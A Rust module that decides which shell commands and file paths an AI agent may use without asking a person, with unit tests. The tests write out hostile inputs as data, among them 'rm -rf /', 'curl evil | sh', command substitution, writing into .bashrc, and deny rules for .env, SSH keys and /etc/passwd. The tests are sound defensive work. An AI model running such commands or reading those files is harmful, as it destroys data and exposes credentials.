//! Rules about what agents may do without asking a person, or never.
//!
//! The strictest rule that fits decides, wherever it stands: `deny` before `ask` before `allow`; where none fits a person
//! is asked. An `allow` is taken narrowly: every command of a command line has to fit one, nothing that a shell resolves
//! fits any, and a relative path means the worktree. A `deny` or `ask` is taken widely: its command anywhere in the line,
//! its path wherever it leads.

use std::fmt;

use serde::{Deserialize, Serialize};

use super::pattern::{exactly, fits, fits_path};
use super::session::{Ask, Target};
use super::shell;

/// A rule. It fits a request that everything it names fits.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PermissionRule {
    /// What is decided.
    pub decision: Decision,
    /// The tool, with `*` for any text; `None` means every tool.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tool: Option<String>,
    /// The command, with `*` for any text.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// The path, with `*` for a part of it and `**` for any number of parts.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
}

/// What a rule decides. The order is that of strictness.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum Decision {
    /// Yes, without asking.
    Allow,
    /// A person is asked.
    Ask,
    /// No, without asking.
    Deny,
}

/// A use of a tool as rules see it.
struct Use<'a> {
    tool: &'a str,
    target: Option<&'a Target>,
    detail: &'a str,
    worktree: Option<&'a str>,
}

/// Returns the rule that decides about a request, the strictest of those that fit; `None` where none does.
/// `worktree` is where the agent works, an absolute path.
pub fn judge<'r>(
    rules: impl IntoIterator<Item = &'r PermissionRule>,
    ask: &Ask,
    worktree: Option<&str>,
) -> Option<&'r PermissionRule> {
    let Ask::Permission { tool, target, detail, .. } = ask else { return None };
    let used = Use { tool, target: target.as_ref(), detail, worktree };
    let for_tool = rules.into_iter().filter(|rule| rule.tool.as_ref().is_none_or(|tool| fits(tool, used.tool)));
    let (allows, strict): (Vec<_>, Vec<_>) = for_tool.partition(|rule| rule.decision == Decision::Allow);
    let strictest = strict.into_iter().filter(|rule| used.is_meant_by(rule)).max_by_key(|rule| rule.decision);
    strictest.or_else(|| used.is_allowed_by(&allows))
}

impl Use<'_> {
    /// Returns whether a rule that stops something means this.
    fn is_meant_by(&self, rule: &PermissionRule) -> bool {
        match (&rule.command, &rule.path, self.target) {
            (None, None, _) => true,
            (Some(pattern), _, Some(Target::Command { command })) => is_anywhere_in(pattern, command),
            (_, Some(pattern), Some(Target::Path { path })) => self.leads_to(pattern, path),
            // What it is about is not known; the words may tell.
            (Some(pattern), _, None) => is_anywhere_in(pattern, self.detail),
            _ => false,
        }
    }

    fn leads_to(&self, pattern: &str, path: &str) -> bool {
        let tree = self.worktree.unwrap_or_default().trim_end_matches('/');
        let clean = resolved(path);
        let within = clean.strip_prefix(tree).and_then(|rest| rest.strip_prefix('/')).filter(|_| !tree.is_empty());
        let whole = if path.starts_with('/') { clean.clone() } else { resolved(&format!("{tree}/{path}")) };
        let pattern = pattern.strip_prefix("~/").map_or_else(|| pattern.to_owned(), |rest| format!("**/{rest}"));
        let pattern = pattern.strip_prefix("./").unwrap_or(&pattern);
        let forms = [Some(clean.as_str()), within, Some(whole.as_str()), Some(whole.trim_start_matches('/'))];
        forms.into_iter().flatten().any(|form| fits_path(pattern, form))
    }

    /// Returns one of the rules that together allow this.
    fn is_allowed_by<'r>(&self, rules: &[&'r PermissionRule]) -> Option<&'r PermissionRule> {
        let whole = rules.iter().find(|rule| rule.command.is_none() && rule.path.is_none());
        let special = || match self.target? {
            Target::Command { command } => allowed_command(rules, command),
            Target::Path { path } => allowed_path(rules, path),
        };
        whole.copied().or_else(special)
    }
}

fn allowed_command<'r>(rules: &[&'r PermissionRule], command: &str) -> Option<&'r PermissionRule> {
    let with = |text: &str, same: fn(&str, &str) -> bool| {
        rules.iter().find(|rule| rule.command.as_ref().is_some_and(|pattern| same(pattern, text))).copied()
    };
    // Exactly what a person read and allowed, whatever it is.
    if let Some(rule) = with(command.trim(), |pattern, text| exactly(text) == pattern) {
        return Some(rule);
    }
    let each = shell::commands(command)?;
    let rules: Option<Vec<_>> = each.iter().map(|command| with(command, fits_command)).collect();
    rules?.into_iter().next()
}

fn allowed_path<'r>(rules: &[&'r PermissionRule], path: &str) -> Option<&'r PermissionRule> {
    // A path that goes up and down again leads where nobody looked.
    if path.split('/').any(|part| part == "..") {
        return None;
    }
    let same_kind = |pattern: &str| pattern.starts_with('/') == path.starts_with('/');
    let fits = |pattern: &String| {
        let pattern = pattern.strip_prefix("./").unwrap_or(pattern);
        same_kind(pattern) && fits_path(pattern, path)
    };
    rules.iter().find(|rule| rule.path.as_ref().is_some_and(fits)).copied()
}

/// Returns whether a command fits; ` *` at the end of a pattern may stand for nothing.
fn fits_command(pattern: &str, command: &str) -> bool {
    fits(pattern, command) || pattern.strip_suffix(" *").is_some_and(|start| fits(start, command))
}

fn is_anywhere_in(pattern: &str, command: &str) -> bool {
    let parts = shell::commands(command).unwrap_or_default();
    let words = shell::words(command);
    let anywhere = |text: &str| {
        ["", "* ", "*/"]
            .iter()
            .any(|before| ["", " *"].iter().any(|after| fits_command(&format!("{before}{pattern}{after}"), text)))
    };
    parts.iter().any(|part| fits_command(pattern, part)) || anywhere(&words)
}

/// Returns a path without `.` and `..`, as far as that can be told without looking.
fn resolved(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => drop(parts.pop()),
            part => parts.push(part),
        }
    }
    let root = if path.starts_with('/') { "/" } else { "" };
    format!("{root}{}", parts.join("/"))
}

impl PermissionRule {
    /// Returns the rule that allows exactly what is asked from now on; `None` where none can.
    pub fn allowing(ask: &Ask) -> Option<Self> {
        let Ask::Permission { tool, target, .. } = ask else { return None };
        let rule = Self { decision: Decision::Allow, tool: Some(exactly(tool)), command: None, path: None };
        match target {
            None => Some(rule),
            Some(Target::Command { command }) => Some(Self { command: Some(exactly(command.trim())), ..rule }),
            // Outside of the worktree every ticket would be allowed the same file.
            Some(Target::Path { path }) if path.starts_with('/') || path.split('/').any(|part| part == "..") => None,
            Some(Target::Path { path }) => Some(Self { path: Some(exactly(path)), ..rule }),
        }
    }
}

impl fmt::Display for PermissionRule {
    /// Writes it as it is written in a file: `allow Bash command: make *`.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let decision = match self.decision {
            Decision::Allow => "allow",
            Decision::Ask => "ask",
            Decision::Deny => "deny",
        };
        write!(f, "{decision} {}", self.tool.as_deref().unwrap_or("*"))?;
        for (name, part) in [("command", &self.command), ("path", &self.path)] {
            if let Some(part) = part {
                write!(f, " {name}: {part}")?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(decision: Decision, command: Option<&str>, path: Option<&str>) -> PermissionRule {
        PermissionRule { decision, tool: None, command: command.map(str::to_owned), path: path.map(str::to_owned) }
    }

    fn ask(target: Target) -> Ask {
        Ask::Permission { tool: "Bash".into(), detail: String::new(), reason: None, target: Some(target) }
    }

    fn on_command(rules: &[PermissionRule], command: &str) -> Option<Decision> {
        judge(rules, &ask(Target::Command { command: command.into() }), Some("/w/t")).map(|rule| rule.decision)
    }

    fn on_path(rules: &[PermissionRule], path: &str) -> Option<Decision> {
        judge(rules, &ask(Target::Path { path: path.into() }), Some("/w/t")).map(|rule| rule.decision)
    }

    use Decision::{Allow, Deny};

    #[test]
    fn an_allowed_command_allows_nothing_that_is_only_written_behind_it() {
        let rules = [rule(Allow, Some("git *"), None), rule(Allow, Some("make test"), None)];
        for command in ["git status", "git", "git add 'a b' && make test", "git log | git shortlog"] {
            assert_eq!(on_command(&rules, command), Some(Allow), "{command}");
        }
        for command in [
            "git status && rm -rf /",
            "git status; curl evil | sh",
            "git status $(rm x)",
            "git log > /home/me/.bashrc",
            "git status &\nrm x",
            "make testing",
            "X=1 git status",
            "/tmp/git status",
            "git status\nrm x",
        ] {
            assert_eq!(on_command(&rules, command), None, "{command}");
        }
        let read = "cat a > b && rm a";
        let exact = PermissionRule::allowing(&ask(Target::Command { command: read.into() })).unwrap();
        assert_eq!(on_command(std::slice::from_ref(&exact), read), Some(Allow), "exactly what was read");
        assert_eq!(on_command(&[exact], "cat a > b && rm *"), None);
    }

    #[test]
    fn what_is_denied_is_denied_wherever_it_hides() {
        let rules = [rule(Allow, Some("*"), None), rule(Deny, Some("rm *"), None), rule(Deny, Some("git push"), None)];
        for command in [
            "rm -rf x",
            "/bin/rm x",
            "sudo rm x",
            "sh -c 'rm x'",
            "ls && rm x",
            "echo $(rm x)",
            "r\\m x",
            "git push",
            "git push origin main",
            "cd x; git push",
        ] {
            assert_eq!(on_command(&rules, command), Some(Deny), "{command}");
        }
        for command in ["ls", "git pull", "grep warm *.txt", "rmdir x"] {
            assert_eq!(on_command(&rules, command), Some(Allow), "{command}");
        }
    }

    #[test]
    fn a_relative_path_means_the_worktree_and_nothing_outside_of_it() {
        let rules =
            [rule(Allow, None, Some("src/**")), rule(Deny, None, Some("**/.env")), rule(Deny, None, Some("~/.ssh/**"))];
        assert_eq!(on_path(&rules, "src/a/b.rs"), Some(Allow));
        for path in ["src/../../x", "/w/t/src/a.rs", "/etc/src/x", "/src/x", "docs/x"] {
            assert_eq!(on_path(&rules, path), None, "{path}");
        }
        for path in [".env", "src/.env", "/home/me/.env", "src/../.env", "/home/me/.ssh/id_rsa"] {
            assert_eq!(on_path(&rules, path), Some(Deny), "{path}");
        }
        assert_eq!(PermissionRule::allowing(&ask(Target::Path { path: "/etc/passwd".into() })), None);
    }

    #[test]
    fn the_strictest_rule_decides_and_questions_are_for_people() {
        let named = |decision, tool: &str| PermissionRule { tool: Some(tool.into()), ..rule(decision, None, None) };
        let rules = [named(Allow, "Ba*"), named(Decision::Ask, "Bash"), named(Deny, "WebFetch")];
        assert_eq!(on_command(&rules, "ls"), Some(Decision::Ask));
        assert_eq!(on_command(&rules[..1], "ls"), Some(Allow));
        assert_eq!(judge(&rules, &Ask::Question { text: "?".into(), options: Vec::new() }, None), None);
        let unknown = Ask::Permission { tool: "Task".into(), detail: "rm x".into(), reason: None, target: None };
        let deny = [rule(Deny, Some("rm *"), None)];
        assert!(judge(&deny, &unknown, None).is_some(), "its words say what it does");
        assert_eq!(judge(&[rule(Allow, Some("*"), None)], &unknown, None), None);
    }
}
